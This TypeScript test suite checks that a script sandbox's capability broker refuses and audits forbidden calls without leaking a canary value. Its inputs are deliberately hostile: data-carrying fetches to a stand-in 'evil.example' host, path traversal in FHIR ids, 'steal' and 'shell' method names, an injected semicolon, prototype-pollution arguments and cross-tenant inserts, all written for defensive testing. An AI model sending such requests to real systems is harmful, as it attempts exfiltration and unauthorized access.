// timeout: 90
import { randomUUID } from 'node:crypto';
import { once } from 'node:events';
import { readFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { createClient } from '@supabase/supabase-js';
import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import type { Grants } from '../../host/broker/capability.ts';
import { CapabilityError } from '../../host/broker/capability.ts';
import { createFhirCapability } from '../../host/broker/fhir.ts';
import { Broker, type Denial } from '../../host/broker/index.ts';
import { startFhirServer } from '../../host/embedded/fhir/index.ts';
import { startSupabase } from '../../host/embedded/supabase.ts';
import { openLog } from '../../host/log.ts';
import { openRows } from '../../host/rows.ts';
import { createScriptHost } from '../../host/scripts.ts';
import { answerCall } from '../../sandbox/call.ts';
import { type BuildOutcome, DEFAULT_LIMITS, type RefusedCall } from '../../sandbox/index.ts';
import { temporaryFolder } from '../stand/project.ts';

const test = suite('a denied call');
const owned = new AsyncDisposableStack();
/** In every argument of every call below. It may be nowhere else. */
const CANARY = 'CanaryqZkWx';
const TENANT = 'org-1';
const GRANTS: Grants = {
  capabilities: new Set(['fhir', 'db', 'http', 'log']),
  http: {
    allow: ['http://127.9.9.9', 'https://api.example.org'],
    privateRanges: [],
    secrets: new Map([['partner', { origin: 'https://other.example.org', header: 'x-key', value: CANARY }]]),
  },
  db: { tables: ['notes'], functions: [] },
  env: {},
};
let scripts: ReturnType<typeof createScriptHost>;
let events: (runId: string) => Promise<Record<string, unknown>[]>;
let logFile: string;

test.before(async () => {
  const folder = await temporaryFolder('denials');
  owned.defer(() => folder.remove());
  const fhir = owned.use(await startFhirServer({ dbFile: `${folder.path}/fhir.db` }));
  const db = owned.use(await startSupabase({ dbFile: `${folder.path}/db.sqlite` }));
  const client = createClient(db.url, db.serviceRoleKey, { auth: { persistSession: false } });
  logFile = `${folder.path}/host.log`;
  scripts = createScriptHost({
    fhir: { baseUrl: fhir.url, mode: 'organization-prefix', auth: null },
    db: { url: db.url, apikey: db.anonKey, jwtSecret: db.jwtSecret },
    cells: { most: 4, memoryMb: null },
    auditStore: openRows(db),
    log: openLog({ level: 'trace', file: logFile }),
  });
  owned.defer(() => scripts.close());
  events = async (runId) => {
    const { data } = await client.from('audit_events').select('*').eq('run_id', runId).limit(2_000);
    return data ?? [];
  };
});
test.after(async () => {
  await owned.disposeAsync();
});

interface Attempt {
  readonly tenant?: string | null;
  readonly grants?: Partial<Grants>;
}

/** Runs a script to its end, and waits for so many events of it. */
async function attempt(body: string, expected: number, { tenant = TENANT, grants = {} }: Attempt = {}) {
  const source = `import * as cloister from 'cloister'; const { fhir, db, http } = cloister; const canary = '${CANARY}';
    declare const $cloister: any;
    export async function main(): Promise<any> { ${body} }`;
  const built: BuildOutcome = await scripts.sandbox.build({
    entry: 'activities/a.ts',
    files: new Map([['activities/a.ts', source]]),
    builtIns: new Map(),
    packages: new Set(),
    readPackage: async () => null,
    virtual: new Map(),
  });
  if (!built.ok) throw new Error(JSON.stringify(built.problems));
  const runId = randomUUID();
  const outcome = await scripts.runner.run({
    tenant,
    run: {
      id: runId,
      workflow: 'w',
      activity: 'a',
      attempt: 1,
      startedAt: '2026-01-01T00:00:00Z',
      deterministic: false,
    },
    digest: 'f'.repeat(64),
    bundle: built.bundle,
    params: {},
    grants: { ...GRANTS, ...grants },
    limits: { ...DEFAULT_LIMITS, calls: 2_000 },
    remainingMs: 30_000,
    signal: new AbortController().signal,
    log: () => undefined,
  });
  for (let tries = 0; ; tries++) {
    const found = await events(runId);
    if (found.length >= expected || tries > 200) return { outcome, found };
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
}

const quiet = (call: string): string => `await ${call}.catch(() => null);`;

/** What a script does → method and code of the one event. Where the script does not catch it, the code is that of its failure. */
const CASES: readonly (readonly [what: string, call: string, method: string, code: string, given?: Attempt])[] = [
  [
    'a capability that is not granted',
    'http.fetch("https://api.example.org/" + canary)',
    'http.fetch',
    'CAPABILITY_REFUSED',
    { grants: { capabilities: new Set(['fhir']) } },
  ],
  ['an origin off the list', 'http.fetch("https://evil.example/" + canary)', 'http.fetch', 'CAPABILITY_REFUSED'],
  [
    'an address inside, though its origin is on the list',
    'http.fetch("http://127.9.9.9/" + canary, { headers: { "x-a": canary } })',
    'http.fetch',
    'CAPABILITY_REFUSED',
  ],
  [
    'a secret of another origin',
    'http.fetch("https://api.example.org/" + canary, { secret: "partner" })',
    'http.fetch',
    'CAPABILITY_REFUSED',
  ],
  ['a path as a FHIR id', 'fhir.read("Patient", "../" + canary)', 'fhir.read', 'CAPABILITY_REFUSED'],
  [
    'a FHIR resource that scripts may not write',
    'fhir.create({ resourceType: "AuditEvent", id: canary } as any)',
    'fhir.create',
    'CAPABILITY_REFUSED',
  ],
  [
    'a table that is not granted',
    'db.from("secrets_" + canary).select("*").throwOnError()',
    'db.request',
    'CAPABILITY_REFUSED',
  ],
  [
    'db without a tenant',
    'db.from("notes").select(canary).throwOnError()',
    'db.request',
    'TENANT_REFUSED',
    { tenant: null },
  ],
  [
    "a row of another tenant, which the table's policy refuses",
    'db.from("notes").insert({ tenant_id: "org-2", body: canary }).throwOnError()',
    'db.request',
    'DENIED',
  ],
  [
    'a method that a capability does not have',
    '$cloister.call("fhir.steal" + canary, { canary })',
    'fhir.unknown',
    'UNKNOWN_METHOD',
  ],
  ['a capability that there is not', '$cloister.call("shell." + canary, { canary })', 'unknown', 'UNKNOWN_METHOD'],
  ['a name of no form', '$cloister.call("fhir.read; " + canary, { canary })', 'unknown', 'UNKNOWN_METHOD'],
  [
    'an argument that reaches for a prototype',
    '$cloister.call("fhir.read", { type: "Patient", id: { constructor: canary } })',
    'fhir.read',
    'BAD_ARGUMENT',
  ],
  [
    'the same to a method that there is not',
    '$cloister.call("fhir.steal" + canary, { constructor: canary })',
    'fhir.unknown',
    'BAD_ARGUMENT',
  ],
];

for (const [what, call, method, code, given] of CASES) {
  test(`${what}: one event with ${code}, caught or not`, async () => {
    for (const body of [quiet(`(async () => ${call})()`), `await ${call};`]) {
      const { found, outcome } = await attempt(body, 1, given);
      assert.is(found.length, 1, JSON.stringify(found));
      const [{ time, tenant, run_id, workflow, activity, digest, kind, actor, ...rest } = {}] = found;
      assert.equal([rest.code, rest.method, kind, actor], [code, method, 'denied', null]);
      assert.equal(
        [tenant, workflow, activity, digest],
        [given?.tenant === null ? null : TENANT, 'w', 'a', 'f'.repeat(64)],
      );
      assert.ok(run_id);
      assert.ok(Math.abs(Date.parse(String(time)) - Date.now()) < 60_000);
      assert.not.match(JSON.stringify(found), CANARY);
      assert.is(outcome.ok, body.includes('catch'), JSON.stringify(outcome));
    }
  });
}

test('a script that tries a thousand times is held up by none of a thousand events', async () => {
  const body = 'for (let n = 0; n < 1_000; n++) await http.fetch("https://evil.example/" + canary).catch(() => null);';
  const { found } = await attempt(body, 1_000);
  assert.is(found.length, 1_000);
});

test('what goes wrong without being forbidden is no event', async () => {
  const body = `${quiet('http.fetch(canary)')} ${quiet('fhir.read("Patient", "none")')} ${quiet('fhir.read("Patient", 5 as any)')}
    await db.from('notes').select('no_such_column'); ${quiet('$cloister.call("fhir.read", () => canary)')}
    ${quiet('$cloister.call("fhir.read", { type: canary.repeat(500_000) })')}
    ${quiet('$cloister.call("fhir.read", { type: "\u{1f600}".repeat(500_000) })')}
    let deep: any = canary; for (let n = 0; n < 500; n++) deep = [deep]; ${quiet('$cloister.call("fhir.read", deep)')}
    await http.fetch('https://evil.example/').catch(() => null);`;
  const { found } = await attempt(body, 1);
  assert.is(found.length, 1, JSON.stringify(found));
});

test('calls beyond those that may be open at once, as the capability counts them, are events too', async () => {
  const denials: Denial[] = [];
  const busy = async () => {
    throw new CapabilityError('TOO_MANY_CALLS', CANARY);
  };
  const events = { denied: (denial: Denial) => void denials.push(denial), failed: () => undefined };
  const broker = new Broker([{ methods: new Map([['http.fetch', busy]]), close: async () => undefined }], events);
  const context = {
    ...{ tenant: TENANT, runId: 'r', workflow: 'w', activity: 'a', attempt: 1, digest: 'd', grants: GRANTS },
    ...{ deadline: Date.now() + 9_000, signal: new AbortController().signal, nextWriteKey: () => '' },
  };
  await broker.call('http.fetch', { CANARY }, context).catch(() => undefined);
  assert.equal(
    denials.map(({ method, code }) => [method, code]),
    [['http.fetch', 'TOO_MANY_CALLS']],
  );
});

test('text that is no JSON, which the bridge of a cell lets nobody send, is an event; large or deep arguments are none', async () => {
  const denials: Denial[] = [];
  const broker = new Broker([], { denied: (denial) => void denials.push(denial), failed: () => undefined });
  const about = { tenant: TENANT, runId: 'r', workflow: 'w', activity: 'a', digest: 'd' };
  const request = {
    call: async () => null,
    limits: { ...DEFAULT_LIMITS, argBytes: 1_000 },
    onRefused: (method: string, code: RefusedCall) => broker.refused(method, code, about),
  };
  for (const args of [`{"a": ${CANARY}`, `"${CANARY.repeat(200)}"`, `${'['.repeat(400)}${']'.repeat(400)}`]) {
    await answerCall(request, { method: 'fhir.read', args }, new AbortController().signal, () => undefined);
  }
  assert.equal(denials, [{ ...about, method: 'fhir.unknown', code: 'BAD_ARGUMENT' }]);
});

test('what a FHIR server forbids is an event, though a script is told that it is missing; what is missing is none', async () => {
  await using server = createServer((request, response) => {
    response.writeHead(request.url?.includes('foreign') ? 403 : 404, { 'content-type': 'application/fhir+json' });
    response.end(JSON.stringify({ resourceType: 'OperationOutcome', issue: [{ diagnostics: CANARY }] }));
  });
  await once(server.listen(0, '127.0.0.1'), 'listening');
  const { port } = server.address() as AddressInfo;
  const fhir = createFhirCapability({ baseUrl: `http://127.0.0.1:${port}`, mode: 'organization-prefix', auth: null });
  const denials: Denial[] = [];
  const broker = new Broker([fhir], { denied: (denial) => void denials.push(denial), failed: () => undefined });
  owned.defer(() => broker.close());
  const context = {
    ...{ tenant: TENANT, runId: 'r', workflow: 'w', activity: 'a', attempt: 1, digest: 'd', grants: GRANTS },
    ...{ deadline: Date.now() + 9_000, signal: new AbortController().signal, nextWriteKey: () => 'k' },
  };
  const ops = [{ op: 'remove', path: '/active' }];
  for (const method of ['fhir.read', 'fhir.patch', 'fhir.delete']) {
    const [foreign, missing] = await Promise.all(
      ['foreign', 'missing'].map((id) =>
        broker.call(method, { type: 'Patient', id, ops }, context).catch(({ code, message }) => ({ code, message })),
      ),
    );
    assert.equal(foreign, missing, 'the script cannot tell them apart');
    assert.equal(
      denials.splice(0).map((denial) => [denial.method, denial.code]),
      [[method, 'DENIED']],
    );
  }
});

test('nothing of what the scripts asked for is in the log of the host', async () => {
  const text = await readFile(logFile, 'utf8');
  assert.match(text, '"audit":"denied"');
  assert.not.match(text, CANARY);
});

test.run();
